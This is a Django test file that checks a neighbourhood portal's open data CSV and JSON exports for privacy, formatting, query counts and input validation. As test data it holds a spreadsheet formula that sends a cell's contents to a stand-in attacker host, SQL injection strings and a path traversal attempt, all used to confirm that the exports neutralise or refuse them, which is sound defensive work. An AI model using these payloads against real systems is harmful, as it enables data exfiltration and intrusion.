"""Open data exports: what each file holds, how it is written, and what it refuses.

One small world with something of every dataset, public and not: every check reads the
files as a reuser would (Python's csv module, json) and compares them with the world.
"""

import csv
import datetime
import io
import json

import pytest
from django.core.files.base import ContentFile
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from contacten.models import AgendapuntStatus, ToezeggingStatus
from initiatieven.keuzes import RolGemeente, Status
from initiatieven.models import Bericht, Bijlage, Statuswijziging
from opendata import exports
from opendata.exports import DATASETS, FORMATEN, LICENTIE_URL
from tests.contacten.factories import (
    AgendapuntFactory,
    BesluitFactory,
    ToezeggingFactory,
    VergaderingFactory,
)
from tests.factories import GebruikerFactory
from tests.html import assert_geldige_html, vereis_validator
from tests.initiatieven.factories import OnderwerpFactory
from tests.meedenken.factories import InbrengFactory, MeedenkvraagFactory, TerugkoppelingFactory
from tests.wijken.factories import (
    BestuursfunctieFactory,
    BewonersgroepFactory,
    BuurtFactory,
    KerncijfersFactory,
    WijkFactory,
)

pytestmark = pytest.mark.django_db

FORMULE = '=HYPERLINK("https://kwaad.example/?x="&A1,"Klik")'


def _download(dataset: str, formaat: str, client=None, **params):
    response = (client or Client()).get(
        reverse("opendata:download", kwargs={"dataset": dataset, "formaat": formaat}), params
    )
    return response


def _lichaam(response) -> str:
    assert response.streaming, "an export is streamed"
    return b"".join(response.streaming_content).decode("utf-8")


def _csv(dataset: str, **params) -> list[dict]:
    response = _download(dataset, "csv", **params)
    assert response.status_code == 200
    rijen = list(csv.reader(io.StringIO(_lichaam(response), newline="")))
    kop, *data = rijen
    assert kop == [k.naam for k in DATASETS[dataset].kolommen] + ["licentie"]
    assert all(len(r) == len(kop) for r in data)
    assert all(r[-1] == LICENTIE_URL for r in data)
    return [dict(zip(kop, r, strict=True)) for r in data]


def _json(dataset: str, **params) -> dict:
    response = _download(dataset, "json", **params)
    assert response.status_code == 200
    return json.loads(_lichaam(response))


@pytest.fixture
def wereld(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    wijk = WijkFactory(met_staf=True, naam="Noord", code="WK770001")
    ander = WijkFactory(met_staf=True, naam="Zuid", code="WK770002")
    buurt = BuurtFactory(wijk=wijk, code="BU77000101", naam="Molenbuurt")
    KerncijfersFactory(buurt=buurt, jaar=2024, aantal_inwoners=900)
    KerncijfersFactory(buurt=buurt, jaar=2025, aantal_inwoners=1000, p_00_14=15)
    KerncijfersFactory(
        buurt=BuurtFactory(wijk=wijk, code="BU77000102"), jaar=2025, aantal_inwoners=3000, p_00_14=5
    )
    contact = GebruikerFactory(weergavenaam="Contactpersoon Groep", email="contact@prive.example")
    groep = BewonersgroepFactory(wijk=wijk, naam="Buurtvereniging Molen", contactpersonen=[contact])
    groep.buurten.set([buurt])
    BestuursfunctieFactory(groep=groep, naam="Bestuurslid Geheimnaam")
    BestuursfunctieFactory(groep=groep, vacant=True)

    formule = OnderwerpFactory(
        wijk=wijk,
        buurt=buurt,
        openbaar_=True,
        groep=groep,
        status=Status.IN_BEHANDELING,
        titel="Zoals getypt",
        publieke_titel=FORMULE,
        beschrijving="Zoals getypt, met huisnummer",
        publieke_beschrijving="+31 is een prefix, geen som",
        locatie="Dorpsstraat 1",
        publieke_locatie="Bij de molen",
        rol_gemeente=RolGemeente.FACILITEREN,
        rol_toelichting="-  streepje vooraan",
        kansrijk=True,
    )
    Statuswijziging.objects.create(
        onderwerp=formule,
        van=Status.INGEDIEND,
        naar=Status.IN_BEHANDELING,
        door=wijk.wijkadviseur,
        publieke_toelichting="We pakken het op.",
        interne_notitie="Interne notitie die niemand mag zien",
    )
    Bericht.objects.create(
        onderwerp=formule, door=wijk.wijkadviseur, tekst="Intern bericht geheim", openbaar=False
    )
    bijlage = Bijlage.objects.create(
        onderwerp=formule,
        bestand=ContentFile(b"\xff\xd8\xffJPEG", name="x.jpg"),
        oorspronkelijke_naam="foto-van-de-indiener.jpg",
        inhoudstype="image/jpeg",
        grootte=7,
    )
    afgerond = OnderwerpFactory(wijk=ander, openbaar_=True, afgerond=True, titel="Afgerond")
    niet_openbaar = OnderwerpFactory(wijk=wijk, titel="Niet gepubliceerd onderwerp")
    Statuswijziging.objects.create(
        onderwerp=niet_openbaar, van="", naar=Status.INGEDIEND, publieke_toelichting="Stap X"
    )
    concept = OnderwerpFactory(wijk=wijk, concept=True, titel="Concept onderwerp")

    vergadering = VergaderingFactory(geweest=True)
    punt = AgendapuntFactory(
        vergadering=vergadering, titel="@SUM(A1) als titel", onderwerpen=[formule, niet_openbaar]
    )
    besluit = BesluitFactory(agendapunt=punt, toelichting="Het college stemt in.")
    toezegging = ToezeggingFactory(besluit=besluit, wijk=wijk, status=ToezeggingStatus.OPEN)
    voorstel = AgendapuntFactory(
        vergadering=vergadering, status=AgendapuntStatus.VOORGESTELD, titel="Alleen voorgesteld"
    )
    geheim = VergaderingFactory(concept=True, locatie="Geheime kamer")
    geheim_punt = AgendapuntFactory(vergadering=geheim, titel="Punt van een concept")
    ToezeggingFactory(
        besluit=BesluitFactory(agendapunt=geheim_punt), wijk=wijk, omschrijving="Geheime belofte"
    )
    vragen = _meedenkvragen(wijk, ander, buurt, formule, niet_openbaar, punt, voorstel)
    return {
        **vragen,
        "wijk": wijk,
        "ander": ander,
        "buurt": buurt,
        "groep": groep,
        "formule": formule,
        "afgerond": afgerond,
        "niet_openbaar": niet_openbaar,
        "concept": concept,
        "bijlage": bijlage,
        "vergadering": vergadering,
        "geheim": geheim,
        "punt": punt,
        "voorstel": voorstel,
        "toezegging": toezegging,
    }


#: Respondents: one anonymous, one who chose to be named; neither is ever in a file.
ANONIEME_RESPONDENT = {"weergavenaam": "Aaltje Onzichtbaar", "email": "aaltje.geheim@prive.example"}
GENOEMDE_RESPONDENT = {"weergavenaam": "Berend Zichtbaar", "email": "berend.geheim@prive.example"}


def _meedenkvragen(wijk, ander, buurt, formule, niet_openbaar, punt, voorstel) -> dict:
    """An open question whose counts are not public yet, a closed one with published
    feedback, a closed one with draft feedback, and a draft question."""
    anoniem = GebruikerFactory(**ANONIEME_RESPONDENT)
    genoemd = GebruikerFactory(**GENOEMDE_RESPONDENT)
    open_ = MeedenkvraagFactory(
        wijken=[wijk], opties=["Bomen", "Bankjes"], titel="=1+1 open vraag", reacties_openbaar=True
    )
    open_.buurten.set([buurt])
    for persoon, optie, naam in ((anoniem, 0, False), (genoemd, 1, True)):
        inbreng = InbrengFactory(
            vraag=open_, gebruiker=persoon, toon_naam=naam, openbaar=True, tekst="Reactie tekst"
        )
        inbreng.keuzes.set([open_.opties.all()[optie]])
    InbrengFactory(vraag=open_, tekst="Ongescreende reactie geheim")

    gesloten = MeedenkvraagFactory(
        gesloten=True, wijken=[wijk, ander], opties=["Ja", "Nee"], beleidsonderwerp="Omgevingsvisie"
    )
    gesloten.aanleiding.set([formule, niet_openbaar])
    for persoon, optie in ((anoniem, 0), (genoemd, 0)):
        inbreng = InbrengFactory(vraag=gesloten, gebruiker=persoon, toon_naam=persoon == genoemd)
        inbreng.keuzes.set([gesloten.opties.all()[optie]])
    terugkoppeling = TerugkoppelingFactory(
        vraag=gesloten, gepubliceerd=True, samenvatting="-Samenvatting met streepje"
    )
    terugkoppeling.onderwerpen.set([formule, niet_openbaar])
    terugkoppeling.agendapunt = punt
    terugkoppeling.save()

    concept_terugkoppeling = MeedenkvraagFactory(gesloten=True, wijken=[ander], alle_wijken=False)
    TerugkoppelingFactory(
        vraag=concept_terugkoppeling,
        samenvatting="Conceptterugkoppeling geheim",
        agendapunt=voorstel,
    )
    concept_vraag = MeedenkvraagFactory(concept=True, wijken=[wijk], titel="Conceptvraag geheim")
    return {
        "vraag_open": open_,
        "vraag_gesloten": gesloten,
        "vraag_concept_terugkoppeling": concept_terugkoppeling,
        "vraag_concept": concept_vraag,
        "terugkoppeling": terugkoppeling,
    }


# --- CSV -----------------------------------------------------------------------------------


def test_onderwerpen_csv(wereld):
    rijen = {int(r["id"]): r for r in _csv("onderwerpen")}
    assert set(rijen) == {wereld["formule"].pk, wereld["afgerond"].pk}
    rij = rijen[wereld["formule"].pk]
    # The screened text, neutralised where a spreadsheet would run it as a formula.
    assert rij["titel"] == "'" + FORMULE
    assert rij["beschrijving"] == "'+31 is een prefix, geen som"
    assert rij["rol_toelichting"] == "'-  streepje vooraan"
    assert rij["locatie"] == "Bij de molen"
    assert rij["status"] == "in_behandeling"
    assert rij["status_label"] == "In behandeling"
    assert rij["wijk_code"] == "WK770001"
    assert rij["buurt_code"] == "BU77000101"
    assert rij["groep_id"] == str(wereld["groep"].pk)
    assert rij["kansrijk"] == "true"
    assert rij["rol_gemeente"] == "faciliteren"
    assert rij["agendapunten"] == str(wereld["punt"].pk)
    assert rij["bijlagen"] == (
        f"http://testserver/initiatieven/{wereld['formule'].pk}/bijlagen/{wereld['bijlage'].pk}/"
    )
    assert rij["url"] == f"http://testserver/initiatieven/{wereld['formule'].pk}/"
    assert datetime.datetime.fromisoformat(rij["ingediend_op"]).tzinfo is not None
    assert rijen[wereld["afgerond"].pk]["resultaat"] == "De moestuin is er."


def test_statuswijzigingen_csv_alleen_de_publieke_tijdlijn(wereld):
    rijen = _csv("statuswijzigingen")
    assert [r["onderwerp_id"] for r in rijen] == [str(wereld["formule"].pk)]
    assert rijen[0]["naar"] == "in_behandeling"
    assert rijen[0]["toelichting"] == "We pakken het op."
    assert rijen[0]["omschrijving"]  # the public timeline's line for the step


def test_wijken_en_buurten_met_cbs_codes_en_kerncijfers(wereld):
    wijken = {r["code"]: r for r in _csv("wijken")}
    assert set(wijken) == {"WK770001", "WK770002"}
    noord = wijken["WK770001"]
    # The latest year only; the share weighted by inhabitants: (15*1000 + 5*3000) / 4000.
    assert noord["kerncijfers_jaar"] == "2025"
    assert noord["aantal_inwoners"] == "4000"
    assert noord["p_00_14"] == str(round((15 * 1000 + 5 * 3000) / 4000))
    assert wijken["WK770002"]["aantal_inwoners"] == ""
    buurten = {r["code"]: r for r in _csv("buurten")}
    assert buurten["BU77000101"]["wijk_code"] == "WK770001"
    assert buurten["BU77000101"]["aantal_inwoners"] == "1000"
    assert buurten["BU77000101"]["kerncijfers_jaar"] == "2025"


def test_groepen_zonder_personen(wereld):
    (rij,) = _csv("groepen")
    assert rij["naam"] == "Buurtvereniging Molen"
    assert rij["buurten"] == "BU77000101"
    assert rij["aantal_vacatures"] == "1"
    tekst = _lichaam(_download("groepen", "csv"))
    for persoon in ("Contactpersoon Groep", "contact@prive.example", "Bestuurslid Geheimnaam"):
        assert persoon not in tekst


def test_vergaderingen_agendapunten_toezeggingen_alleen_openbaar(wereld):
    vergaderingen = _csv("vergaderingen")
    assert [int(r["id"]) for r in vergaderingen] == [wereld["vergadering"].pk]
    (punt,) = _csv("agendapunten")
    assert int(punt["id"]) == wereld["punt"].pk
    assert punt["titel"] == "'@SUM(A1) als titel"
    # Only the published item it carries.
    assert punt["onderwerpen"] == str(wereld["formule"].pk)
    assert punt["besluit_resultaat"] == "aangenomen"
    assert punt["besluit_toelichting"] == "Het college stemt in."
    (toezegging,) = _csv("toezeggingen")
    assert int(toezegging["id"]) == wereld["toezegging"].pk
    assert toezegging["agendapunt_id"] == str(wereld["punt"].pk)
    assert toezegging["status"] == "open"


def test_meedenkvragen_csv(wereld):
    rijen = {int(r["id"]): r for r in _csv("meedenkvragen")}
    # Published questions only: never a draft.
    assert set(rijen) == {
        wereld["vraag_open"].pk,
        wereld["vraag_gesloten"].pk,
        wereld["vraag_concept_terugkoppeling"].pk,
    }
    open_ = rijen[wereld["vraag_open"].pk]
    assert open_["titel"] == "'=1+1 open vraag"
    assert open_["staat"] == "open"
    assert open_["wijken"] == "WK770001"
    assert open_["buurten"] == "BU77000101"
    # Every response counts, as on the public list; no response itself is in the file.
    assert open_["aantal_reacties"] == "3"
    assert open_["keuzeopties"] == "Bomen;Bankjes"
    # Open, and the question does not show its results while open: no counts yet.
    assert open_["keuzeopties_aantallen"] == ""
    assert open_["terugkoppeling_samenvatting"] == ""
    assert open_["url"] == f"http://testserver/meedenken/{wereld['vraag_open'].pk}/"

    gesloten = rijen[wereld["vraag_gesloten"].pk]
    assert gesloten["staat"] == "teruggekoppeld"
    assert gesloten["wijken"] == "WK770001;WK770002"
    assert gesloten["beleidsonderwerp"] == "Omgevingsvisie"
    assert gesloten["keuzeopties"] == "Ja;Nee"
    assert gesloten["keuzeopties_aantallen"] == "2;0"
    assert gesloten["aantal_reacties"] == "2"
    # Only the published items it links to.
    assert gesloten["aanleiding"] == str(wereld["formule"].pk)
    assert gesloten["terugkoppeling_onderwerpen"] == str(wereld["formule"].pk)
    assert gesloten["terugkoppeling_samenvatting"] == "'-Samenvatting met streepje"
    assert gesloten["terugkoppeling_besluit"] == "We planten twintig bomen."
    assert gesloten["terugkoppeling_waarom"] == "Schaduw en koelte in de zomer."
    gepubliceerd = datetime.datetime.fromisoformat(gesloten["terugkoppeling_gepubliceerd_op"])
    assert gepubliceerd == wereld["terugkoppeling"].gepubliceerd_op.replace(microsecond=0)
    punt = wereld["punt"]
    assert gesloten["terugkoppeling_agendapunt_id"] == str(punt.pk)
    assert gesloten["terugkoppeling_agendapunt_url"] == (
        f"http://testserver{punt.vergadering.get_absolute_url()}#punt-{punt.pk}"
    )

    # Draft feedback (naming a proposal) is not there at all.
    zonder = rijen[wereld["vraag_concept_terugkoppeling"].pk]
    assert zonder["staat"] == "gesloten"
    assert zonder["keuzeopties_aantallen"] == ""  # no options: an empty list
    for kolom in (
        "terugkoppeling_samenvatting",
        "terugkoppeling_besluit",
        "terugkoppeling_gepubliceerd_op",
        "terugkoppeling_agendapunt_id",
        "terugkoppeling_agendapunt_url",
    ):
        assert zonder[kolom] == "", kolom


def test_meedenkvragen_aantallen_zodra_de_uitslag_openbaar_is(wereld):
    # The question shows its results while open: then the file shows the counts as well.
    wereld["vraag_open"].uitslag_tijdens = True
    wereld["vraag_open"].save()
    rijen = {r["id"]: r for r in _json("meedenkvragen")["rijen"]}
    assert rijen[wereld["vraag_open"].pk]["keuzeopties_aantallen"] == [1, 1]
    assert rijen[wereld["vraag_gesloten"].pk]["keuzeopties_aantallen"] == [2, 0]
    assert rijen[wereld["vraag_concept_terugkoppeling"].pk]["terugkoppeling_samenvatting"] is None


@pytest.mark.parametrize("formaat", FORMATEN)
def test_meedenkvragen_zonder_respondenten_of_concepten(wereld, formaat):
    tekst = _lichaam(_download("meedenkvragen", formaat))
    assert wereld["vraag_gesloten"].titel in tekst  # the file holds the questions
    for verboden in (
        ANONIEME_RESPONDENT["weergavenaam"],
        ANONIEME_RESPONDENT["email"],
        # Named on the question page, never in a bulk file (as the items export).
        GENOEMDE_RESPONDENT["weergavenaam"],
        GENOEMDE_RESPONDENT["email"],
        "Reactie tekst",
        "Ongescreende reactie geheim",
        "Conceptterugkoppeling geheim",
        "Conceptvraag geheim",
        "Alleen voorgesteld",
    ):
        assert verboden not in tekst, verboden


def test_meedenkvragen_filter_sinds(wereld):
    morgen = (timezone.localdate() + datetime.timedelta(days=1)).isoformat()
    assert _csv("meedenkvragen", sinds=morgen) == []
    vorig_jaar = (timezone.localdate() - datetime.timedelta(days=365)).isoformat()
    assert len(_csv("meedenkvragen", sinds=vorig_jaar)) == 3


def _vragen_met_reacties(aantal: int, wijk, onderwerp, punt) -> None:
    for _i in range(aantal):
        vraag = MeedenkvraagFactory(gesloten=True, wijken=[wijk], opties=["A", "B"])
        vraag.aanleiding.set([onderwerp])
        for optie in vraag.opties.all():
            InbrengFactory(vraag=vraag).keuzes.set([optie])
        TerugkoppelingFactory(vraag=vraag, gepubliceerd=True, agendapunt=punt).onderwerpen.set(
            [onderwerp]
        )


@pytest.mark.parametrize("formaat", FORMATEN)
def test_meedenkvragen_queries_gelijk_voor_3_en_30(formaat):
    wijk = WijkFactory(met_staf=True)
    onderwerp = OnderwerpFactory(wijk=wijk, openbaar_=True)
    punt = AgendapuntFactory(vergadering=VergaderingFactory(), onderwerpen=[onderwerp])
    _vragen_met_reacties(3, wijk, onderwerp, punt)
    drie = _queries("meedenkvragen", formaat)
    _vragen_met_reacties(27, wijk, onderwerp, punt)
    dertig = _queries("meedenkvragen", formaat)
    assert dertig == drie
    assert len(_json("meedenkvragen")["rijen"]) == 30


@pytest.mark.parametrize(
    ("waarde", "cel"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("gewoon =1+1", "gewoon =1+1"),
        ("", ""),
        (None, ""),
        (True, "true"),
        (False, "false"),
        ([1, 2], "1;2"),
        (datetime.date(2026, 1, 31), "2026-01-31"),
    ],
)
def test_cel(waarde, cel):
    assert exports.cel(waarde) == cel


# --- JSON ----------------------------------------------------------------------------------

_PYTHON_TYPEN = {
    "integer": int,
    "string": str,
    "boolean": bool,
    "date": str,
    "datetime": str,
    "url": str,
    "integer_list": list,
    "string_list": list,
    "url_list": list,
}


@pytest.mark.parametrize("dataset", list(DATASETS))
def test_json_volgt_het_schema(wereld, dataset):
    gegevens = _json(dataset)
    assert gegevens["licentie"] == "CC0-1.0"
    assert gegevens["licentie_url"] == LICENTIE_URL
    assert gegevens["dataset"] == dataset
    kolommen = DATASETS[dataset].kolommen
    assert [k["naam"] for k in gegevens["schema"]] == [k.naam for k in kolommen]
    assert [k["type"] for k in gegevens["schema"]] == [k.type for k in kolommen]
    assert gegevens["rijen"], "the world has rows of every dataset"
    for rij in gegevens["rijen"]:
        assert list(rij) == [k.naam for k in kolommen]
        for kolom in kolommen:
            waarde = rij[kolom.naam]
            if waarde is None:
                continue
            assert isinstance(waarde, _PYTHON_TYPEN[kolom.type]), (kolom.naam, waarde)
            if kolom.type == "date":
                datetime.date.fromisoformat(waarde)
            if kolom.type == "datetime":
                assert datetime.datetime.fromisoformat(waarde).tzinfo is not None
            if kolom.type in ("url", "url_list"):
                for adres in waarde if isinstance(waarde, list) else [waarde]:
                    assert adres.startswith(("http://", "https://"))
    # The CSV has the same rows.
    assert len(_csv(dataset)) == len(gegevens["rijen"])


def test_json_laat_tekst_zoals_die_is(wereld):
    rijen = {r["id"]: r for r in _json("onderwerpen")["rijen"]}
    rij = rijen[wereld["formule"].pk]
    assert rij["titel"] == FORMULE  # no apostrophe: JSON is not opened by a spreadsheet
    assert rij["kansrijk"] is True
    assert rij["agendapunten"] == [wereld["punt"].pk]


# --- headers, streaming --------------------------------------------------------------------


@pytest.mark.parametrize("formaat", FORMATEN)
def test_koppen(wereld, formaat):
    response = _download("onderwerpen", formaat)
    assert response.status_code == 200
    assert response.streaming
    verwacht = {"csv": "text/csv; charset=utf-8", "json": "application/json; charset=utf-8"}
    assert response["Content-Type"] == verwacht[formaat]
    assert response["Content-Disposition"] == (
        f'attachment; filename="wijkportaal-onderwerpen.{formaat}"'
    )
    assert f'<{LICENTIE_URL}>; rel="license"' in response["Link"]
    assert response["Cache-Control"] == "public, max-age=900"
    _lichaam(response)


def test_head_geeft_de_koppen_zonder_export(wereld):
    with CaptureQueriesContext(connection) as vastgelegd:
        response = Client().head(reverse("opendata:download", args=["onderwerpen", "csv"]))
    assert response.status_code == 200
    assert not response.streaming
    assert response.content == b""
    assert response["Content-Disposition"] == 'attachment; filename="wijkportaal-onderwerpen.csv"'
    assert not any("initiatieven_onderwerp" in q["sql"] for q in vastgelegd.captured_queries)


def test_ingelogd_niet_bewaard(wereld):
    # The same public file, but a signed-in response is never kept by a shared cache.
    response = _download("onderwerpen", "csv", client=_ingelogd(wereld["wijk"].wijkadviseur))
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    assert "public" not in response["Cache-Control"]


def _ingelogd(gebruiker) -> Client:
    client = Client()
    client.force_login(gebruiker)
    return client


def _queries(dataset: str, formaat: str) -> int:
    with CaptureQueriesContext(connection) as vastgelegd:
        response = _download(dataset, formaat)
        _lichaam(response)
    return len(vastgelegd)


@pytest.mark.parametrize("dataset", list(DATASETS))
def test_aantal_queries_groeit_niet_met_de_rijen(wereld, dataset):
    voor = {formaat: _queries(dataset, formaat) for formaat in FORMATEN}
    # Ten times the rows of everything related: items with steps, attachments, agenda
    # items; groups with neighbourhoods; wards with neighbourhoods and key figures;
    # questions with options, responses and feedback.
    for i in range(45):
        wijk = WijkFactory()
        buurt = BuurtFactory(wijk=wijk)
        KerncijfersFactory(buurt=buurt)
        groep = BewonersgroepFactory(wijk=wijk)
        groep.buurten.set([buurt])
        onderwerp = OnderwerpFactory(wijk=wijk, buurt=buurt, groep=groep, openbaar_=True)
        Statuswijziging.objects.create(
            onderwerp=onderwerp, van=Status.INGEDIEND, naar=Status.IN_BEHANDELING
        )
        Bijlage.objects.create(
            onderwerp=onderwerp,
            bestand=ContentFile(b"\xff\xd8\xff", name=f"{i}.jpg"),
            oorspronkelijke_naam="a.jpg",
            inhoudstype="image/jpeg",
            grootte=3,
        )
        punt = AgendapuntFactory(vergadering=wereld["vergadering"], onderwerpen=[onderwerp])
        ToezeggingFactory(besluit=BesluitFactory(agendapunt=punt), wijk=wijk)
        VergaderingFactory()
        _vragen_met_reacties(1, wijk, onderwerp, punt)
    na = {formaat: _queries(dataset, formaat) for formaat in FORMATEN}
    assert na == voor
    assert len(_json(dataset)["rijen"]) >= 46


def test_rijen_in_blokken(wereld, monkeypatch):
    # Over a chunk's boundary: every row once, in key order.
    monkeypatch.setattr(exports, "BLOK", 1)
    OnderwerpFactory.create_batch(3, wijk=wereld["wijk"], openbaar_=True)
    ids = [r["id"] for r in _json("onderwerpen")["rijen"]]
    assert ids == sorted(ids) and len(ids) == len(set(ids)) == 5


# --- parameters ----------------------------------------------------------------------------


def test_filter_op_wijk(wereld):
    rijen = _csv("onderwerpen", wijk="WK770002")
    assert [int(r["id"]) for r in rijen] == [wereld["afgerond"].pk]
    assert {r["code"] for r in _csv("wijken", wijk="WK770001")} == {"WK770001"}
    assert _csv("toezeggingen", wijk="WK770002") == []
    # An empty value (an empty form field) filters nothing.
    assert len(_csv("onderwerpen", wijk="")) == 2


def test_filter_sinds(wereld):
    Statuswijziging.objects.filter(onderwerp=wereld["formule"]).update(
        tijdstip=timezone.now() - datetime.timedelta(days=40)
    )
    gisteren = (timezone.localdate() - datetime.timedelta(days=1)).isoformat()
    assert _csv("statuswijzigingen", sinds=gisteren) == []
    vorig_jaar = (timezone.localdate() - datetime.timedelta(days=365)).isoformat()
    assert len(_csv("statuswijzigingen", sinds=vorig_jaar)) == 1


ONGELDIG = [
    ("onderwerpen", {"wijk": "WK88"}, "CBS"),
    ("onderwerpen", {"wijk": "WK999999"}, "WK999999"),
    ("onderwerpen", {"wijk": "' OR 1=1--"}, "CBS"),
    ("onderwerpen", {"wijk": "WK770001\x00"}, "wijk"),
    ("onderwerpen", {"wijk": "W" * 1000}, "wijk"),
    ("onderwerpen", {"sinds": "gisteren"}, "2026-01-31"),
    ("onderwerpen", {"sinds": "2026-02-30"}, "2026-01-31"),
    ("onderwerpen", {"sinds": "0001-01-01"}, "1990-01-01"),
    ("onderwerpen", {"sinds": "9999-12-31"}, "2100-12-31"),
    ("onderwerpen", {"sinds": "2026-01-01'; DROP TABLE x;--"}, "sinds"),
    ("onderwerpen", {"pagina": "2"}, "wijk"),
    ("onderwerpen", {"wijk": ["WK770001", "WK770002"]}, "wijk"),
    ("wijken", {"sinds": "2026-01-01"}, "wijk"),
    ("vergaderingen", {"wijk": "WK770001"}, "sinds"),
    ("meedenkvragen", {"wijk": "WK770001"}, "sinds"),
    ("meedenkvragen", {"sinds": "2026-13-01"}, "2026-01-31"),
]


@pytest.mark.parametrize("formaat", FORMATEN)
@pytest.mark.parametrize(("dataset", "params", "in_bericht"), ONGELDIG)
def test_ongeldige_parameters(wereld, formaat, dataset, params, in_bericht):
    response = _download(dataset, formaat, **params)
    assert response.status_code == 400
    assert not response.streaming
    tekst = response.content.decode()
    if formaat == "json":
        assert response["Content-Type"] == "application/json; charset=utf-8"
        bericht = json.loads(tekst)
        assert bericht["status"] == 400
        tekst = bericht["fout"]
    else:
        assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert in_bericht in tekst
    assert "no-store" in response["Cache-Control"]


@pytest.mark.parametrize(
    ("pad", "status", "soort"),
    [
        ("/open-data/onderwerpen.xlsx", 400, "text/plain"),
        ("/open-data/onderwerpen.csv%00", 400, "text/plain"),
        ("/open-data/bestaat-niet.csv", 404, "text/plain"),
        ("/open-data/bestaat-niet.json", 404, "application/json"),
        ("/open-data/onder%00werpen.json", 404, "application/json"),
        ("/open-data/onderwerpen.csv.json", 404, "application/json"),
    ],
)
def test_onbekend_formaat_of_dataset(wereld, pad, status, soort):
    response = Client().get(pad)
    assert response.status_code == status
    assert response["Content-Type"].startswith(soort)
    tekst = response.content.decode()
    if soort == "application/json":
        tekst = json.loads(tekst)["fout"]
    # The message names what there is to choose from.
    assert ("onderwerpen" in tekst) if status == 404 else ("csv, json" in tekst)


def test_pad_buiten_de_map():
    # A slash in the name matches no dataset pattern at all: the portal's own 404 page.
    assert Client().get("/open-data/..%2F..%2Fetc.json").status_code == 404


@pytest.mark.parametrize("methode", ["post", "put", "delete"])
def test_alleen_lezen(wereld, methode):
    response = getattr(Client(), methode)(reverse("opendata:download", args=["onderwerpen", "csv"]))
    assert response.status_code == 405


# --- the page ------------------------------------------------------------------------------


def test_pagina_toont_elke_dataset_met_schema_en_links(wereld):
    html = Client().get(reverse("opendata:open_data")).content.decode()
    assert "CC0" in html and LICENTIE_URL in html
    for dataset in DATASETS.values():
        for formaat in FORMATEN:
            assert f'href="{dataset.url(formaat)}"' in html
        for kolom in dataset.kolommen:
            assert f"<code>{kolom.naam}</code>" in html, (dataset.naam, kolom.naam)


def test_pagina_wijst_de_feeds_de_api_en_open311_die_antwoorden(wereld):
    """The page's other ways to reuse the data: each link is there and answers."""
    html = Client().get(reverse("opendata:open_data")).content.decode()
    for url in (
        reverse("opendata:feed_onderwerpen"),
        reverse("api-v1:openapi-view"),
        reverse("opendata:open311_discovery", kwargs={"fmt": "json"}),
    ):
        assert f'href="{url}"' in html
        assert Client().get(url).status_code == 200, url


def test_pagina_in_de_voettekst():
    html = Client().get(reverse("home")).content.decode()
    voettekst = html[html.index("<footer") :]
    assert f'href="{reverse("opendata:open_data")}"' in voettekst


def test_pagina_in_het_engels(wereld):
    client = Client()
    client.cookies["django_language"] = "en"
    html = client.get(reverse("opendata:open_data")).content.decode()
    assert '<html lang="en">' in html
    assert "<h1>Open data</h1>" in html
    assert "Status history" in html
    nl = Client().get(reverse("opendata:open_data")).content.decode()
    assert '<html lang="nl">' in nl
    assert "Statusgeschiedenis" in nl


def test_pagina_is_geldige_html(wereld):
    vereis_validator()
    engels = Client()
    engels.cookies["django_language"] = "en"
    documenten = {
        f"open data ({taal})": client.get(reverse("opendata:open_data")).content.decode()
        for taal, client in (("nl", Client()), ("en", engels))
    }
    assert_geldige_html(documenten)
